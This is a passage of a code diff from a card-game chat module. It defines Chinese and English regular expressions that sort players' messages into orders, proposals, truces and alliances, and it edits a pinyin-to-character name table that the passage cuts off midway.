 const ORDER = new RegExp("(?:悠|收|省|匀)着点|消停|老实点|安分点|别(?:再|急着|老)?(?:打|杀|砍|拆|动|搞|碰|顺|集火|跳|救|浪|慌|急|装|闹|理|信|听|乱|上当)|不要(?:再|急着)?(?:打|杀|砍|拆|救|信|听|跳|乱)|(?:集火|先打|快打|一起打|都打|都去|打死|干掉|做掉|弄死|[摁按]死|(?<=[轮合]|^|去|给我)盯着(?=[^,.!?]{1,8}[打砍杀])|盯(?:住|死|紧)|围(?!观)|先杀|砍死|杀掉|收掉|秒了)|(?:^|[,!.\\s]|去|给我|帮我|快|先|来|都|号|公|你|请|赶紧|赶快|直接|必须|继续|大家|一起|再|倒是)(?:收了|收掉|打|杀|砍|拆|顺|乐|兵|捅|捶|揍|弄|办|控|保|护|救|打掉|拆掉|帮|盯|信|听(?!我一句|我说)|留|压|奶)(?![得的好算扰了过不法字听话笑命急情名])(?:一下|一手|一?刀|着|住)?(?:他|她|它|主|反|内|忠|我(?!们)|[一二三四五六七八九十\\d]{1,2}(?:号|$|[,.!?了啊吧])|\\p{Script=Han}{2,4}(?:$|[,.!吧啊]))|开杀|(?:快|赶紧|你|去|先|给他)?用(?:南蛮|万箭|决斗|无懈|桃园|火攻|乐)|下一?个(?:就)?(?:是|打|杀|搞|收)?(?:他|她|主公|[一二三四五六七八九十\\d]{1,2}号|\\p{Script=Han}{2,4}$)|压上|先(?:收|做|办|宰|点|搞|灭|锤|弄)|留(?:着|个|张|一)?(?:桃|闪|无懈|杀|牌)|(?:快|赶紧|你|去|先|请)(?:跳|出牌|出杀|跑|上|动手|过|结束|开|装|挂|交|摸|弃)|^(?:上|冲|动手|开打|开干|撤|稳住|等等|等一下|听我的|跟我|交给我|闭嘴|住口|都别动|控(?:一)?手)|给(?:他|她|主公|[一二三四五六七八九\\d]号)(?:一?[个张颗])?(?:牌|装备|桃|闪|酒|一刀|点)|(?:快|先|都|一起|去|帮我|赶紧|谁来|必须|得)?救(?:救|一下)?(?:主公|主|他|她|[一二三四五六七八九\\d]+号|\\p{Script=Han}{2,4}(?:$|[,.!吧啊]))|\\b(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|let's kill|listen|ignore|save|trust|believe)\\b", "u");
 const ORDER_EN = /^(?:if [^,]{1,20} then )?(?:(?:please|pls|now|ok|so|then|just|(?:this|next) (?:turn|round)|u|hey|everyone|everybody|guys|all|quick(?:ly)?|lord|seat \d+|player \d+|\d+|you|(?:can|could|will|would) (?:you|u|ya)(?: please| pls| just)?|you should|you must|you have to|we should|we must|we need to|go|come on|someone|somebody)[ ,]+)*(?:attack|kill|hit|focus|target|don't|dont|do not|stop|leave|go for|get|shoot|discard|protect|cover|guard|slash|dismantle|duel|finish|use|play|keep|watch|listen|ignore|save|trust|believe|take|give|go easy|take it easy|ease up|easy (?:on|with)|hold back|chill|be careful|wait(?= for|$|[,.!])|calm|shut|reveal|show|follow|steal|help)\b/;
 const PROPOSE = /商量(?:个|件|一下|下)|谈(?:个|笔)价|成交(?:不|吗|么|没)|让(?:给)?我(?:行不|行吗|好不|吧|呗)|(?:人头|功劳)(?:让|给|归)我|咱(?:们|俩|仨)?先(?:弄|搞|收拾|办|做|灭|打)|(?:投|认输|投降)了?(?:吧|得了|算了)|停手(?:吧|好不|行不|行吗|怎么样|如何)|(?:我们|咱们|咱|咱俩|你我)(?:来|先|一起|联手|合作|结盟|都|可以|不如|要不|就|互)(?!.{0,2}(?:下班|吃|睡|回家|散))|合作|联手|结盟|联盟|停战|休战|议和|讲和|和解|互不(?:侵犯|打|动)|谈(?:个|笔)?(?:条件|交易|判)|做(?:个|笔)?交易|交易(?:吗|不|如何)|(?:要不(?!是|要(?:这么|那么|脸))|不如|何不|干脆|(?<!要么.*)要么(?!.*要么))(?!$)|再(?:来|开|玩|打)(?:一)?(?:局|把|盘)|下(?:一)?(?:局|把|盘)(?:还|再|继续|也)?(?:来|玩|打|约)|(?:你|您)(?:别|不)(?:打|动|杀|拆|碰)我.{0,4}我(?:也|就|便|保证)?(?:别|不|绝不)|(?:一起|先)(?:打|杀|集火|对付|收拾|灭)(?!谁|哪|几).{0,6}(?:吧|怎么样|如何|好吗|好不好|行吗|行不行|可好|呗)|\b(?:let's|lets|let us|shall we|how about|what about (?:we|a)|team up|ally|alliance|truce|(?<!(?:your|ur|big|the) )deal|cease ?fire|work together|join forces|if you (?:don't|dont|won't|spare|leave)|another (?:game|round)|one more (?:game|round)|play again|we (?:could|can|should) (?:all )?(?:work|team|focus|attack|kill|go))\b/;
@@ -19472,10 +19516,12 @@ const CLAIM_LOYAL = /我(?:是)?(?:跟|和|站)(?:你|您)(?:是)?(?:同)?(?:一
 const TAKEN_FOR = /以为|当(?:你|他|她)|(?:你|他|她|号)(?:是|算|才是|也是)?自己人|\bthought (?:you|he|she|they)\b/;
 const OFFERED = /[做谈打]个?(?:买卖|生意|交易|商量)|谈(?:个|下)?条件|成不成|成交|行不行|行就|同意(?:就|的)?(?:扣|吱|说)|\b(?:deal|trade)\b/;
 const TOGETHER = /合作|联手|结盟|联盟|一起|一块|搭伙|组队|同盟|跟(?:着)?我|和我|配合|\b(?:together|team|ally|alliance|with me|join)\b/;
-const TRUCE = /停手|停火|休战|停战|讲和|和(?:平|解)|握手言和|井水不犯河水|(?:互相?|彼此)(?:都)?(?:不|别)(?:先)?(?:打|动|侵犯|砍|针对|搞)|(?:别|不)(?:再)?(?:互打|互砍|互殴|打来打去)|各(?:打|玩)各的|\b(?:truce|ceasefire|peace|leave (?:me|each other) alone|no hard feelings)\b/;
+const TRUCE = /停手|停火|休战|停战|讲和|和(?:平|解)|井水不犯河水|(?:互相?|彼此)(?:都)?(?:不|别)(?:先)?(?:打|动|侵犯|砍|针对|搞)|(?:别|不)(?:再)?(?:互打|互砍|互殴)|各(?:打|玩)各的|\b(?:truce|ceasefire|peace|(?:calm|quiet) round|no attacks|leave (?:me|each other) alone|no hard feelings)\b/;
 const ALIKE2 = /一伙|抱团|(?:啥|什么)关系|一个鼻孔|同伙|一[边头]的|一家(?:的|人|没跑)|一路(?:的|人)|穿一条裤子|串通|勾结|唱双簧|[你他她]们?俩|这[俩两]|\b(?:same (?:side|team)|partners?|in (?:it |this )?together|buddies|teamed up|in cahoots|working together)\b/;
 const LET_BE = /(?<![别不莫勿]|不要|不能|不会|不想)(?:放(?:过|了)|饶(?:了|过))|(?:别|不要|少|先不|甭)(?:再|老|去|来|急着)?(?:打|动|杀|拆|碰|砍|惹|顺|搞|针对|为难|惦记|恨|怪|记恨)|手下留情|(?<!\b(?:never|don't|dont|not) )\b(?:spare|leave .{1,12} (?:alone|be)|let .{1,12} (?:go|live|be)|(?:don't|dont|stop|quit) (?:hit|attack|kill|touch|shoot|target)\w*|lay off|back off)\b/;
 const IN_RETURN = /如果|要是|只要|的话|你(?:先|要|去|帮|来|肯|敢)|换|\b(?:if|as long as|when) you\b|\bin (?:return|exchange)\b|\byou (?:go|hit|attack|kill|help|first)\b/;
+const REGARDED = /[当算拿].{0,8}(?:自己人|朋友|盟友)|是敌是友|敌还是友|\bfriend or\b|\b(?:see|count|treat) .{1,16} as (?:an? )?(?:friend|ally|enemy)\b/;
+const TAG = /^你?(?:[怎咋]么?[样说]|如何|说呢|觉得呢|(?:what )?(?:do )?(?:you|u) (?:say|think|agree))$/;
 const FORETOLD = /(?:怕是?|估计|恐怕|迟早|早晚|八成|搞不好|我赌|预感).{0,14}(?:[要得会该]|撑|活|赢|输|凉|没|完|悬|翻|死|倒|挂|崩)|(?:我看|我猜|感觉|估计).{0,8}(?:要|会|得|准|肯定|八成).{0,4}(?:打|砍|杀|拆|收|动|冲|拼|反水|跳)|(?<!我)下(?:个|一)?(?:回合|轮)(?!我).{0,3}(?:肯定|一定|必|八成|准|绝对|怕是)(?:要|会|得)?.{0,3}(?:打|砍|杀|拆|收|弄|动|冲|拼)|(?:我看|我猜|感觉).{0,14}(?:撑|活|赢|输|凉|完|悬|翻|死|倒|挂|崩)|(?:撑|活|熬|挺|过)不(?:过|到|了|住)|(?:要|快|肯定|必|准)(?:凉|完|输|赢|没|死|倒|崩|炸|翻车)|(?:稳|凉|悬|输定|赢定|没戏|没救|完蛋)了?(?:吧|啊|呀|呗)?$|\b(?:i bet|i reckon|bet(?:ting)?|gonna|going to|will|won't|about to|'ll) .{0,24}\b(?:dies?|dead|lose|win|wins|fall|falls?|end|ends|last|survive|make it|drop|over)\b|\b(?:won't|wont|not gonna|can't|cant) (?:last|survive|make it)\b|\bwe(?:'re| are) (?:losing|winning|doomed|dead|screwed|fine)\b|\bis (?:doomed|toast|done for|a goner)\b/;
 const COMPANY = /(?<![老总别]|一直|不要|天天|专门)(?:跟|和|同|陪|随)(?:着)?(?:我|咱们?).{0,8}(?:一[起块道同]|联手|搭伙|组队|配合|[打杀砍干冲上弄搞拆]|收拾|集火)|(?:一[起块道同]|联手|合伙|搭伙|组队).{0,6}(?:[打杀砍干冲弄搞拆灭保救做办]|收拾|集火|动手)|搭(?:个)?(?:伙|把手)|\b(?:(?:who|anyone|anybody|somebody|someone)\b.{0,20}\bwith me|(?:hit|attack|kill|go|push|focus|come|fight|strike)\b.{0,14}\bwith me|join me|join in|team up|gang up|together (?:on|against)|help me (?:kill|hit|attack|get|finish|take)|who(?:'s|s| is) (?:in|with me)|(?:anyone|anybody|who) (?:wanna|want|wants|up for|down))\b/;
 const ordersHelp = (text) => /救|奶(?:一?口|他|她|主)|口奶|给.{1,5}桃|护驾|\b(?:save|heal|peach|help)\b/.test(text);
@@ -21522,7 +21568,7 @@ function chooseBy({ correction, rules }, lines, allowed) {
 }
 
 // src/chatter/scene/name-sounds.ts
-const NAME_SOUNDS = "a阿 ai艾哀爱皑隘 an安岸暗鞍黯谙 ang昂 ao敖傲鏖骜嚣獒鏊 ba巴霸八拔跋把魃 bai柏白百败拜摆 ban班伴半坂版板绊 bang傍棒 bao宝苞褒鲍报暴豹保爆 bei北卑备悖悲杯背被孛惫狈 ben本贲奔笨 beng崩 bi比壁庇弼必毕璧碧笔粃臂陛匕嬖币弊愎蔽诐避鄙闭 bian卞辩边变鞭辨 biao彪标表 bie别 bin宾斌彬豩鬓镔 bing秉邴仌兵冰并病竝饼柄 bo伯泊波薄博帛拨钵搏驳 bu不布步卜捕补部 cai彩才蔡财采材猜裁 can璨粲惭残参灿蚕骖 cang仓沧苍藏 cao操曹草 ce策侧测 cen岑 cha刹叉察插 chai虿豺拆柴钗 chan婵禅蝉阐谗颤缠谄铲 chang嫦敞昌昶畅长伥场常猖肠偿怅 chao朝巢晁超嘲潮炒钞 che彻澈车掣撤 chen琛綝谌辰陈宸尘忱榇沉臣谶嗔瞋 cheng成承澄程赪乘城惩称诚骋逞 chi赤叱持池炽螭驰齿斥笞迟饬鸱 chong充冲宠崇虫 chou丑畴稠筹紬踌酬俦雠 chu俶初处楚褚出躇除雏储厨畜黜 chuan川传穿椽钏 chuang创 chui吹垂陲 chun春淳纯唇醇 ci慈刺此词赐辞雌骴 cong琮从聪 cu簇促蹙 cuan篡 cui崔粹翠倅摧淬萃催榱瘁 cun存村寸 cuo挫措 da大达答妲打 dai岱戴黛代带待怠逮殆袋 dan丹旦紞耽诞啖惔惮胆殚 dang当党荡挡谠 dao导道倒刀到岛盗祷稻蹈悼 de德的得 deng登邓灯等 di帝棣狄笛地嫡弟抵敌磾缔蒂镝涤低底滴砥第谛 dian典点电靛巅殿 diao貂凋雕 die蝶叠喋迭 ding丁定鼎订钉 dong董东动洞 dou窦兜斗 du度杜笃毒渡独督读都妒蠹黩 duan段端断短锻 dui对队 dun惇敦盾顿遁钝 duo铎咄堕多夺掇惰 e娥恶萼厄婀扼蛾谔遏鹗讹鄂锷 en恩 er儿二毦而迩尔饵 fa法伐发阀筏 fan樊翻范蕃反帆泛犯返饭 fang方昉芳防鲂放访 fei绯费飞匪妃斐沸蜚诽非肥 fen棻分奋焚忿愤 feng丰冯凤奉封枫讽逢酆锋风峰俸烽蜂 fo佛 fou否 fu伏傅夫孚扶抚敷服甫福符芙覆辅阜馥付复富府弗弣拂父祓缚腹複负赋妇斧浮腐蝜赴附 gai盖概改该 gan干幹榦甘感敢肝 gang纲冈刚罡 gao皋高槁诰告 ge葛戈格歌阁个各割革 gen根 geng梗鲠更耕 gong公宫巩恭贡共功工弓攻躬 gou句垢构狗篝勾彀苟 gu固顾骨古姑孤蛊谷故箍股锢鼓 gua卦寡挂 guan关瓘管观冠官毌贯惯棺灌 guang光广犷 gui珪瑰贵圭归规诡闺鬼 gun滚 guo国果郭帼虢过 hai亥海孩害骇 han汉涵瀚菡韩寒悍捍汗翰含扞撼旱酣 hang夯 hao暠浩皓豪郝好蒿号昊 he何合和河禾贺郃鹤壑曷荷喝 hei黑 hen恨狠 heng横珩衡恒 hong弘泓洪纮虹鸿宏红 hou侯后厚垕猴候喉 hu呼扈狐祜胡虎乎壶户护湖瑚鹘互笏 hua化华花画 huai怀槐淮徊坏 huan奂幻桓欢涣焕环唤宦患寰缓 huang凰晃煌璜皇篁黄荒惶 hui会回徽恢惠晖蕙辉慧挥晦毁绘虺诲隳麾彗恚悔汇灰贿迴 hun浑昏魂混 huo火获霍惑祸活藿镬 ji冀吉基姬嵇暨机济激稷稽籍纪绩辑霁几击及嫉季寄己忌戟技极棘畿疾祭积继羁计蹐迹集饥骥鸡剂墼寂急戢既汲蒺觊讥赍 jia嘉珈贾佳假加夹家岬甲葭驾架笳颊 jian俭坚建监简健僭兼剑奸尖涧渐笺箭翦臶见謇蹇鉴间舰茧荐谏鞬鹣 jiang姜将江绛蒋浆疆降匠讲 jiao椒焦皎角骄交娇教矫缴蕉蛟剿狡醮 jie桀洁玠界节颉介借劫婕孑届截捷杰碣竭结阶戒皆诫 jin晋津瑾禁谨进金锦劲尽巾烬矜近今衿 jing憬敬景竟经荆镜靖静井京净境径惊晶睛菁鲸旌竞精鏡 jiong冏颎 jiu就玖久九救旧究臼酒柩纠 ju居据沮矩菊雎举局惧拒炬聚苴裾跼踞踽驹巨橘疽 juan卷娟镌捐狷眷绢 jue爵珏决厥抉攫绝觉谲倔玦玨蟨诀 jun俊儁君均峻浚濬竣钧隽骏军郡畯 ka卡 kai凯恺楷闿开铠忾慨 kan侃堪阚勘栞龛戡看 kang康抗亢糠伉 ke恪柯轲克可客殼珂科窠刻瞌 ken垦 keng吭铿 kong孔控空恐箜 kou口寇 ku库枯酷窟苦 kua跨 kuai蒯快 kuan宽款 kuang匡恇旷狂诳贶 kui葵馗傀夔溃跬逵魁匮悝窥馈 kun琨困坤鹍 kuo廓 lai来濑莱 lan兰览揽澜蓝岚阑 lang朗琅郎廊浪狼 lao老牢劳酪醪 le乐 lei雷儡垒泪类累羸肋 leng冷 li力李理礼离郦酈里丽利历厉戾沥砺立笠莉鲡俐励吏枥栗疠篱藜雳骊黎 lian廉练怜恋炼联莲连敛链 liang亮凉梁良靓两粱粮量 liao廖辽料缭燎疗聊 lie烈劣裂列猎 lin林琳邻霖麟临凛吝鳞 ling令伶凌泠灵翎苓铃龄囹玲陵零绫軨领 liu刘柳留流琉 long隆龙珑笼 lou娄镂漏楼 lu吕卢庐璐禄路辂陆騄鲁鹿六掳胪虏露鹭录戮橹箓赂 luan乱峦鸾卵 lun伦沦论纶轮 luo洛罗骆落裸 lv吕绿虑闾屡履律率膂侣旅滤 lve略掠 ma马麻 mai霾麦卖埋脉 man慢曼满蔓鬘蛮幔漫 mang莽忙蟒 mao懋毛瑁茂髦卯楙矛冒贸酕 mei枚梅媚没眉美郿魅鹛媒寐 men门 meng孟梦猛萌蒙盟艨 mi宓密弥祢糜谧秘米蜜迷靡 mian冕勉沔眠绵面免 miao妙淼苗邈喵庙 mie蔑灭 min敏旻民玟闵泯悯愍 ming明铭名命瞑鸣溟 miu谬 mo摩模默墨末沫莫谟魔摸摹殁漠 mou牟谋鍪 mu慕木母沐牧穆幕暮牡募墓目睦 na哪娜拿纳那 nai能乃奈 nan南楠喃男难 nang囊 nao脑 ne呢讷 nei内 ni逆你尼拟泥溺睨霓匿 nian年念撚 niang娘酿 niao鸟 nie聂蹑涅 ning宁佞凝狞 niu牛 nong农弄浓 nu怒驽 nuan暖 nuo挪搦 nv女 nve虐 ou偶欧鸥殴讴 pai派排牌 pan攀潘磐叛盘判槃蹒 pang庞滂 pao袍咆跑 pei沛裴配佩珮辔醅霈 peng彭鹏捧朋蓬 pi丕毗劈媲披睥罴貔辟圮庀皮霹 pian篇偏翩 piao朴瓢飘骠漂 pin聘拚贫品拼 ping屏平评瓶萍娉 po婆破鄱魄迫 pu普溥璞蒲圃濮 qi岐戚棋淇琦琪祁祈祺绮起麒齐七企其器奇契崎弃栖气泣炁耆骐骑启期 qia洽跒 qian乾佥牵虔谦迁前千愆潜钤铅扦搴浅遣黔 qiang强墙抢枪羌戕锵 qiao乔峤桥翘谯俏巧窍峭樵趫鞘 qie郄且挈窃锲切怯箧 qin沁琴秦钦亲侵勤擒寝禽 qing晴清倾情擎轻青请 qiong琼穷穹 qiu仇丘秋囚毬求球裘遒酋 qu屈渠去取衢躯驱麴曲趋 quan全权泉荃劝拳犬券 que傕阙却雀鹊 qun群 ran然染髯燃 rang穰让禳攘 rao扰绕 re热 ren任人仁刃忍荏纫纴认韧 ri日 rong戎肜荣蓉融容嵘熔 rou柔肉 ru儒汝茹入如濡辱 ruan阮 rui叡瑞睿芮蕤锐 run润 ruo若弱 sa撒飒萨 sai赛塞 san三散 sang桑丧 sao扫骚 se瑟色 sen森 sha沙厦杀歃煞砂铩 shan单山珊闪善擅缮赡 shang尚上商殇裳伤觞赏 shao劭召绍邵韶少筲 she射涉蛇奢折社舍慑摄舌设赦 shen审慎沈深申神蜃身伸甚 sheng升生盛笙圣声省绳胜剩晟牲 shi史士师是氏石世事仕使势嗜噬失始室尸式恃拾施时狮矢莳蚀誓识诗逝释饰侍十实弑眎示筮蓍视试豕适適食 shou寿兽受守手授狩首收绶 shu庶术枢淑书姝戍数束树殊竖纾菽蜀鼠梳熟疏舒输述 shuai衰帅 shuang双爽霜 shui水睡 shun顺瞬 shuo朔硕妁说铄 si司巳思汜丝伺似四寺斯死私肆饲俟兕嗣 song宋嵩松竦颂诵送 sou薮 su肃苏谡俗夙宿溯素诉速 suan算 sui燧眭穗遂岁绥随碎邃髓 sun孙损 suo索娑所锁 ta蹋榻沓踏他挞 tai太泰台抬苔 tan叹婒昙檀谭坦襢弹探谈贪 tang唐棠傥堂汤螳 tao桃涛滔焘陶韬讨醄 te特 teng滕腾藤 ti缇逖体倜啼笹裼蹄悌替涕 tian田天甜 tiao调挑 tie铁 ting亭霆停庭渟听婷廷铤 tong桐童统通同瞳恸痛铜 tou头投偷透 tu图突兔吐土徒秃菟途荼 tuan团 tui腿蜕退侻推褪颓 tun吞屯囤 tuo佗托脱讬騨鼍拓 wai外 wan万婉完玩琬皖纨菀丸剜宛弯绾腕挽顽 wang望王亡往忘妄 wei卫威微未炜煨玮维薇隗韦魏为伟伪位危唯围委尉尾帷渭畏纬苇葳媦慰蔚褽诿违 wen文温闻揾璺稳问妏 weng翁 wo涴倭卧幄我握斡涡 wu伍兀午吴吾武毋乌五务勿呜悟无梧物舞误雾骛妩寤屋忤怃膴诬 xi习戏洗熙犀禧羲袭豨郗郤喜奚嬉希席徙悉溪系西阋隙吸夕息昔曦析檄汐牺玺皙 xia夏下侠瑕遐狭霞黠 xian仙先咸宪暹献羡苋贤鲜县弦显燹衔险陷娴现 xiang向湘祥襄象香乡像相翔骧享响箱 xiao小晓潇箫逍霄骁咲啸孝枭校笑萧虓鸮哮宵效消硝绡 xie协泄燮械榭薤蝎解邪偕卸挟撷绁翓胁谢 xin信昕欣歆辛馨心新薪衅 xing行兴性星杏邢骍幸形刑型 xiong熊雄兄凶 xiu休修琇秀绣袖貅朽 xu勖徐旭栩绪续许诩恤戌盱虚须序煦絮蓄 xuan宣旋暄炫煊玄璇萱轩选嫙悬昡璿眩 xue薛雪学血 xun勋巽循恂洵荀训迅逊寻巡熏驯殉询 ya牙雅亚娅芽轧压崖押涯鸦 yan严兖彦晏炎焉燕琰衍言阎颜嫣岩延檐演烟眼艳雁验厌咽堰妍宴掩湮焰盐研筵 yang杨洋玚羊羕鸯仰佯养央扬炀阳殃鞅 yao姚曜瑶繇耀夭媱爻遥妖徭摇药谣邀 ye晔烨野业也叶夜曳耶邺 yi乂义乙仪伊医嶷廙异役怡懿漪祎翊翼谊逸遗一亿以依夷奕已意抑易毅溢熠疑益移翳荑蚁衣议亦佚倚壹嫕宜弈弋忆揖疫艺裔轶饴 yin尹愔殷胤银阴隐音吟寅引印姻禋荫饮 ying婴应瑛璎盈膺英莹莺萦颖鹰影映樱营迎鹦媵硬荧 yong永邕雍勇庸拥涌用咏泳 you优友幼幽攸祐佑右忧悠有柚游猷由诱酉 yu于宇庾彧昱榆毓渝煜玉瑀瑜羽育舆虞裕豫遹郁钰预与俞圄域御愚欲浴狱禹窬语逾遇雨驭鱼鹬予余喻愈誉谀谕迂隅鬻 yuan元沅渊源瑗缘苑袁远鸢原园垣媛怨援渕鸳鼋圆愿 yue乐岳悦月约越钺樾玥跃阅 yun云允筠耘芸韵殒蕴运酝陨韫恽熨 zai仔再在载灾 zan瓒赞 zang臧葬驵 zao早枣躁凿藻造 ze泽笮帻择昃责则迮 zei贼 zen谮 zeng曾赠 zha吒札诈 zhai翟 zhan战湛瞻占斩盏绽霑展蘸 zhang张彰璋章丈仗障嶂帐掌瘴 zhao招昭赵照罩肇诏兆棹 zhe柘谪哲者 zhen桢珍甄真祯贞轸镇振阵震鸩枕缜赈针 zheng整正郑争峥征拯挣政狰证诤筝 zhi之徵志挚晊植治直知祉祗芷郅骘凪峙执指掷智枝止织职脂至致芝质雉鸷值制咫滞炙猘秩置 zhong重中仲忠种衷钟众冢终踵螽 zhou伷周州咒洲舟冑纣胄骤 zhu主朱柱珠祝竹竺诸助注渚烛猪筑翥著诛逐驻嘱煮蛀铸 zhuan篆转专撰 zhuang庄壮撞妆装 zhui坠椎缀追锥惴 zhun准 zhuo卓啄灼琢拙擢诼 zi子紫姿自资辎兹咨姊恣梓赀 zong宗综总纵踪 zou邹奏诹 zu祖俎族足阻诅镞 zuan攥纂钻 zui醉罪 zun遵樽尊 zuo左祚佐作坐座胙";
+const NAME_SOUNDS = "a阿 ai艾哀爱皑隘 an安岸暗鞍黯谙 ang昂 ao敖傲鏖骜嚣獒鏊 ba巴霸八拔跋把魃 bai柏白百败拜摆 ban班伴半坂版板绊 bang傍棒 bao宝苞褒鲍报暴豹保爆 bei北卑备悖悲杯背被孛惫狈 ben本贲奔笨 beng崩 bi比壁庇弼必毕璧碧笔粃臂陛匕嬖币弊愎蔽诐避鄙闭 bian卞辩边变鞭辨 biao彪标表 bie别 bin宾斌彬豩鬓镔 bing秉邴仌兵冰并病竝饼柄 bo伯泊波薄博帛拨钵搏驳 bu不布步卜捕补部 cai彩才蔡财采材猜裁 can璨粲惭残参灿蚕骖 cang仓沧苍藏 cao操曹草 ce策侧测 cen岑 cha刹叉察插 chai虿豺拆柴钗 chan婵禅蝉阐谗颤缠谄铲 chang嫦敞昌昶畅长伥场常猖肠偿怅 chao朝巢晁超嘲潮炒钞 che彻澈车掣撤 chen琛綝谌辰陈宸尘忱榇沉臣谶嗔瞋 cheng成承澄程赪乘城惩称诚骋逞 chi赤叱持池炽螭驰齿斥笞迟饬鸱 chong充冲宠崇虫 chou丑畴稠筹紬踌酬俦雠 chu俶初处楚褚出躇除雏储厨畜黜 chuan川传穿椽钏 chuang创 chui吹垂陲 chun春淳纯唇醇 ci慈刺此词赐辞雌骴 cong琮从聪 cu簇促蹙 cuan篡 cui崔粹翠倅摧淬萃催榱瘁 cun存村寸 cuo挫措 da大达答妲打 dai岱戴黛代带待怠逮殆袋 dan丹旦紞耽诞啖惔惮胆殚 dang当党荡挡谠 dao导道倒刀到岛盗祷稻蹈悼 de德的得 deng登邓灯等 di帝棣狄笛地嫡弟抵敌磾缔蒂镝涤低底滴砥第谛 dian典点电靛巅殿 diao貂凋雕 die蝶叠喋迭 ding丁定鼎订钉 dong董东动洞 dou窦兜斗 du度杜笃毒渡独督读都妒蠹黩 duan段端断短锻 dui对队 dun惇敦盾顿遁钝 duo铎咄堕多夺掇惰 e娥恶萼厄婀扼蛾谔遏鹗讹鄂锷 en恩 er儿二毦而迩尔饵 fa法伐发阀筏 fan樊翻范蕃反帆泛犯返饭 fang方昉芳防鲂放访 fei绯费飞匪妃斐沸蜚诽非肥 fen棻分奋焚忿愤 feng丰冯凤奉封枫讽逢酆锋风峰俸烽蜂 fo佛 fou否 fu伏傅夫孚扶抚敷服甫福符芙覆辅阜馥付复富府弗弣拂父祓缚腹複负赋妇斧浮腐蝜赴附 gai盖概改该 gan干幹榦甘感敢肝 gang纲冈刚罡 gao皋高槁诰告 ge葛戈格歌阁个各割革 gen根 geng梗鲠更耕 gong公宫巩恭贡共功工弓攻躬 gou句垢构狗篝勾彀苟 gu固顾骨古姑孤蛊谷故箍股锢鼓 gua卦寡挂 guan关瓘管观冠官毌贯惯棺灌 guang光广犷 gui珪瑰贵圭归规诡闺鬼 gun滚 guo国果郭帼虢过 hai亥海孩害骇 han汉涵瀚菡韩寒悍捍汗翰含扞撼旱酣 hang夯 hao暠浩皓豪郝好蒿号昊 he何合和河禾贺郃鹤壑曷荷喝 hei黑 hen恨狠 heng横珩衡恒 hong弘泓洪纮虹鸿宏红 hou侯后厚垕猴候喉 hu呼扈狐祜胡虎乎壶户护湖瑚鹘互笏 hua化华花画 huai怀槐淮徊坏 huan奂幻桓欢涣焕环唤宦患寰缓 huang凰晃煌璜皇篁黄荒惶 hui会回徽恢惠晖蕙辉慧挥晦毁绘虺诲隳麾彗恚悔汇灰贿迴 hun浑昏魂混 huo火获霍惑祸活藿镬 ji冀吉基姬嵇暨机济激稷稽籍纪绩辑霁几击及嫉季寄己忌戟技极棘畿疾祭积继羁计蹐迹集饥骥鸡剂墼寂急戢既汲蒺觊讥赍 jia嘉珈贾佳假加夹家岬甲葭驾架笳颊 jian俭坚建监简健僭兼剑奸尖涧渐笺箭翦臶见謇蹇鉴间舰茧荐谏鞬鹣 jiang姜将江绛蒋浆疆降匠讲 jiao椒焦皎角骄交娇教矫缴蕉蛟剿狡醮 jie桀洁玠界节颉介借劫婕孑届截捷杰碣竭结阶戒皆诫 jin晋津瑾禁谨进金锦劲尽巾烬矜近今衿 jing憬敬景竟经荆镜靖静井京净境径惊晶睛菁鲸旌竞精鏡 jiong冏颎 jiu就玖久九救旧究臼酒柩纠 ju居据沮矩菊雎举局惧拒炬聚苴裾跼踞踽驹巨橘疽 juan卷娟镌捐狷眷绢 jue傕爵珏决厥抉攫绝觉谲倔玦玨蟨诀 jun俊儁君均峻浚濬竣钧隽骏军郡畯 ka卡 kai凯恺楷闿开铠忾慨 kan侃堪阚勘栞龛戡看 kang康抗亢糠伉 ke恪柯轲克可客殼珂科窠刻瞌 ken垦 keng吭铿 kong孔控空恐箜 kou口寇 ku库枯酷窟苦 kua跨 kuai蒯快 kuan宽款 kuang匡恇旷狂诳贶 kui葵馗傀夔溃跬逵魁匮悝窥馈 kun琨困坤鹍 kuo廓 lai来濑莱 lan兰览揽澜蓝岚阑 lang朗琅郎廊浪狼 lao老牢劳酪醪 le乐 lei雷儡垒泪类累羸肋 leng冷 li力李理礼离郦酈里丽利历厉戾沥砺立笠莉鲡俐励吏枥栗疠篱藜雳骊黎 lian廉练怜恋炼联莲连敛链 liang亮凉梁良靓两粱粮量 liao廖辽料缭燎疗聊 lie烈劣裂列猎 lin林琳邻霖麟临凛吝鳞 ling令伶凌泠灵翎苓铃龄囹玲陵零绫軨领 liu刘柳留流琉 long隆龙珑笼 lou娄镂漏楼 lu吕卢庐璐禄路辂陆騄鲁鹿六掳胪虏露鹭录戮橹箓赂 luan乱峦鸾卵 lun伦沦论纶轮 luo洛罗骆落裸 lv吕绿虑闾屡履律率膂侣旅滤 lve略掠 ma马麻 mai霾麦卖埋脉 man慢曼满蔓鬘蛮幔漫 mang莽忙蟒 mao懋毛瑁茂髦卯楙矛冒贸酕 mei枚梅媚没眉美郿魅鹛媒寐 men门 meng孟梦猛萌蒙盟艨 mi宓密弥祢糜谧秘米蜜迷靡 mian冕勉沔眠绵面免 miao妙淼苗邈喵庙 mie蔑灭 min敏旻民玟闵泯悯愍 ming明铭名命瞑鸣溟 miu谬 mo摩模默墨末沫莫谟魔摸摹殁漠 mou牟谋鍪 mu慕木母沐牧穆幕暮牡募墓目睦 na哪娜拿纳那 nai能乃奈 nan南楠喃男难 nang囊 nao脑 ne呢讷 nei内 ni逆你尼拟泥溺睨霓匿 nian年念撚 niang娘酿 niao鸟 nie聂蹑涅 ning宁佞凝狞 niu牛 nong农弄浓 nu怒驽 nuan暖 nuo挪搦 nv女 nve虐 ou偶欧鸥殴讴 pai派排牌 pan攀潘磐叛盘判槃蹒 pang庞滂 pao袍咆跑 pei沛裴配佩珮辔醅霈 peng彭鹏捧朋蓬 pi丕毗劈媲披睥罴貔辟圮庀皮霹 pian篇偏翩 piao朴瓢飘骠漂 pin聘拚贫品拼 ping屏平评瓶萍娉 po婆破鄱魄迫 pu普溥璞蒲圃濮 qi岐戚棋淇琦琪祁祈祺绮起麒齐七企其器奇契崎弃栖气泣炁耆骐骑启期 qia洽跒 qian乾佥牵虔谦迁前千愆潜钤铅扦搴浅遣黔 qiang强墙抢枪羌戕锵 qiao乔峤桥翘谯俏巧窍峭樵趫鞘 qie郄且挈窃锲切怯箧 qin沁琴秦钦亲侵勤擒寝禽 qing晴清倾情擎轻青请 qiong琼穷穹 